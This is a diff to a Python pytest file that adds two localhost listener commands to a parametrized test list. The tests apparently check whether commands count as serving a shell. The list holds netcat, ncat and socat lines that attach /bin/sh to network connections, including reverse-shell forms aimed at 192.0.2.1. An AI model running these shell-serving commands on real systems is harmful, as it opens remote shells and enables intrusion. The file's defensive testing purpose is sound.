@@ -85,7 +85,8 @@ def test_a_shell_that_is_served_asks_nobody(line: str, port: int | None) -> None
 
 @pytest.mark.parametrize(
     "line",
-    ["nc 192.0.2.1 80 -e /bin/sh", "nc -l -p 80", "socat TCP:192.0.2.1:80 EXEC:/bin/sh", "tcpsvd 127.0.0.1 23 sh",
+    ["nc 192.0.2.1 80 -e /bin/sh", "nc -l -s 127.0.0.1 -p 80 -e /bin/sh", "ncat -l 127.0.0.1 80 -e /bin/sh",
+     "nc -l -p 80", "socat TCP:192.0.2.1:80 EXEC:/bin/sh", "tcpsvd 127.0.0.1 23 sh",
      "socat TCP-LISTEN:80,bind=127.0.0.1 EXEC:/bin/sh", "tcpsvd 0 80 answer"],
 )  # fmt: skip
 def test_what_serves_no_shell_to_others_is_no_service(line: str) -> None:
